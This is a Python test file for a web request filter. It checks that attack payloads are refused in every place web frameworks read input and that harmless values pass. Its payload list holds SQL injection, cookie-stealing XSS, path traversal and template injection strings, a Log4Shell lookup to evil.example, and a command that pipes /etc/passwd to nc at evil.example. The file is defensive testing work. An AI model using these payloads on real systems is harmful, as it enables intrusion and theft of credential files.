"""A payload that is refused in a query is refused wherever an app reads it
(benchmarks/differential.py)."""

from __future__ import annotations

import django
import pytest

from tests.detection.differential import FRAMEWORKS, gates, receives
from tests.detection.places import PLACES

PAYLOADS = (
    "1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 80",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://evil.example/a}",
)
GATES = gates()
ONLY_DJANGO_5 = {"multipart, base64", "multipart, base64 with junk"}
"""Places that Django 6, which needs Python 3.12, does not read any more."""


@pytest.mark.parametrize("place", PLACES)
def test_a_payload_is_refused_in_every_place_where_an_app_reads_it(place: str) -> None:
    read = 0
    for payload in PAYLOADS:
        sent = PLACES[place](payload)
        for framework in FRAMEWORKS:
            if receives(framework, sent, payload):
                read += 1
                assert GATES[framework](sent), (framework, place, payload)
    if django.VERSION >= (6,) and place in ONLY_DJANGO_5:
        assert not read
        return
    assert read, "no framework reads this place: the test shows nothing"


# fmt: off
ODD = frozenset(
    {
        # Letters in EBCDIC, or a zero between any two, are no text in the usual charset.
        "query, in EBCDIC", "form, in REST framework, EBCDIC", "multipart, of another charset",
        "multipart, its head in EBCDIC", "multipart, a part's charset",
        "multipart, a part's charset far away", "multipart, a part's charset in two lines",
        "multipart, base64 of EBCDIC", "multipart name, in EBCDIC percent",
        "JSON, UTF-16, as a form", "JSON, UTF-16, as multipart",
        # Nobody writes each letter by its number, or each in a section of its own.
        "query, escapes of Python", "cookie, octal", "XML, a section for each letter",
        # An empty section, an entity and header lines in a field are evidence themselves.
        "XML, cut by CDATA", "XML, an entity of its own", "multipart, nested",
    }
)
"""Places that may be refused whatever stands in them: their form is that of an attack."""
# fmt: on


def test_harmless_values_pass_in_nearly_every_place() -> None:
    """Otherwise the test above would show that a place is refused, and not that it is read."""
    refused = {
        place
        for text in ("tea and scones", "Ada Lovelace")
        for place, made in PLACES.items()
        if GATES["flask"](made(text)) or GATES["bottle"](made(text))
    }
    assert refused <= ODD
